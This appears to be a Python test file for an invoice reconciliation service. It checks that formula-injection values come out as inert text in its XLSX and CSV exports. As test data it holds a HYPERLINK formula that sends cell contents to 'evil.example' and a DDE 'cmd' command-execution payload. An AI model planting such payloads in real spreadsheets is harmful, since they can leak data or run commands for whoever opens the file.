"""Formula injection (CSV/XLSX injection), through the HTTP API on SQLite and PostgreSQL: a seller name, a file
name and a records cell that start with ``=``, ``+``, ``-``, ``@``, a tab or a CR are written as text in every
file fapiao exports — the reconciliation report (XLSX and CSV), the drafts export, the back-fill workbooks and
the statistics workbook — never as a live formula; in CSV they are prefixed with ``'``. Amounts, negative ones
too, stay numbers."""

from __future__ import annotations

import csv
import io
import zipfile
from decimal import Decimal

import openpyxl
from fastapi.testclient import TestClient

from tests.helpers.service import SELLER_ID, csv_bytes, xml
from tests.helpers.service import wait_backfill as _wait
from tests.helpers.service import wait_done as _wait_done
from tests.service.conftest import make_key

EVIL_SELLER = '=HYPERLINK("http://evil.example/?"&A1,"click")'
EVIL_NAMES = ["=cmd|' /C calc'!A0.xml", "+SUM(1+1).xml", "-2+3.xml", "@SUM(A1).xml"]
"""(A tab or CR in a multipart file name is %-encoded by the client; those cases are in the unit test.)"""
DANGER = ("=", "+", "-", "@", "\t", "\r")


def _evil_xml(number: str, amount: str = "100.00", tax: str = "6.00") -> bytes:
    return xml(number, amount, tax).replace("上海某某贸易有限公司".encode(), EVIL_SELLER.replace("&", "&amp;").encode())


def _assert_no_formula(data: bytes, what: str) -> int:
    """Every cell of every sheet: no formula, and the dangerous texts kept as text. Returns how many there were."""
    wb = openpyxl.load_workbook(io.BytesIO(data))
    seen = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (what, ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith(DANGER):
                    seen += 1
    return seen


def test_exports_write_formula_like_values_as_text(client: TestClient) -> None:
    rv, up = make_key(client, "reviewer"), make_key(client, "uploader")
    rows = [["24310000000000000001", "@SUM(1+1)", SELLER_ID, "2024-03-08", "-100.00", "-6.00", "-106.00", "正常"]]
    imp = client.post(
        "/api/v1/records/imports",
        headers=rv,
        files={"file": ("ledger.csv", csv_bytes(rows), "text/csv")},
        data={"mapping": '{"invoice_number": "票号"}'},
    )
    assert imp.status_code == 201, imp.text
    files = [(name, _evil_xml(f"2431000000000000010{i}")) for i, name in enumerate(EVIL_NAMES)]
    docs = client.post(
        "/api/v1/documents?batch=evil", headers=up, files=[("files", (n, d, "application/xml")) for n, d in files]
    ).json()["documents"]
    for d in docs:
        assert _wait_done(client, d["id"], up)["status"] == "done"
    run = client.post("/api/v1/reconciliations", headers=rv, json={"batch": "evil"}).json()

    report = client.get(f"/api/v1/reconciliations/{run['id']}/report?format=xlsx", headers=rv).content
    assert _assert_no_formula(report, "report.xlsx") >= 2 * len(EVIL_NAMES)  # the file names and the seller
    wb = openpyxl.load_workbook(io.BytesIO(report))
    got = []
    for ws in wb.worksheets:
        head, *lines = list(ws.iter_rows(values_only=True))
        got += [dict(zip(head, line, strict=False)) for line in lines if line[0]]
    assert {g["seller_name"] for g in got} == {EVIL_SELLER} and {g["source"] for g in got} == set(EVIL_NAMES)
    assert all(isinstance(g["total_amount"], (int, float)) for g in got)  # amounts stay numbers

    text = client.get(f"/api/v1/reconciliations/{run['id']}/report?format=csv", headers=rv).content.decode("utf-8-sig")
    table = list(csv.DictReader(io.StringIO(text)))
    for line in table:
        for k, v in line.items():
            assert not v.startswith(DANGER) or _is_number(v), (k, v)
    assert {line["seller_name"] for line in table if line["source"]} == {"'" + EVIL_SELLER}
    assert {line["source"] for line in table if line["source"]} == {"'" + n for n in EVIL_NAMES}

    # the drafts export: each evil seller's draft, confirmed and exported
    drafts = client.get("/api/v1/drafts?state=draft", headers=rv).json()["drafts"]
    assert drafts
    for d in drafts:
        assert client.post(f"/api/v1/drafts/{d['id']}/confirm", headers=rv, json={"version": d["version"]}).is_success
    out = client.post("/api/v1/drafts/export", headers=rv, json={"format": "xlsx"})
    assert out.status_code == 200
    assert _assert_no_formula(out.content, "drafts.xlsx") >= len(drafts)

    # the statistics workbook (by seller)
    stats = client.get("/api/v1/stats?group=seller&format=xlsx", headers=rv)
    assert stats.status_code == 200, stats.text[:300]
    assert _assert_no_formula(stats.content, "stats.xlsx") >= 1

    # a back-fill of the same files with the evil records: its two workbooks
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for i, (name, _) in enumerate(files):
            zf.writestr(name, _evil_xml(f"2431000000000000020{i}"))
    bf = client.post(
        "/api/v1/backfills",
        headers=rv,
        files={"archive": ("evil.zip", buf.getvalue(), "application/zip")},
    )
    assert bf.status_code == 202, bf.text
    _wait(client, rv, bf.json()["id"], timeout=120)
    for name in ("reconciliation.xlsx", "drafts.xlsx"):
        got = client.get(f"/api/v1/backfills/{bf.json()['id']}/outputs/{name}", headers=rv)
        assert got.status_code == 200, (name, got.status_code)
        assert _assert_no_formula(got.content, name) >= (len(EVIL_NAMES) if name.startswith("rec") else 1)


def _is_number(v: str) -> bool:
    try:
        Decimal(v)
    except ArithmeticError:
        return False
    return True


def test_what_counts_as_formula_like() -> None:
    from fapiao.matching.cell_text import csv_cell, formula_like

    for v in ("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "-", "=", "\t-1"):
        assert formula_like(v) and csv_cell(v) == "'" + v, v
    for v in ("-106.00", "+5", "-0.06", "上海=某某", "a-b", "", None, Decimal("-1.00"), -3):
        assert not formula_like(v) and csv_cell(v) == v, v
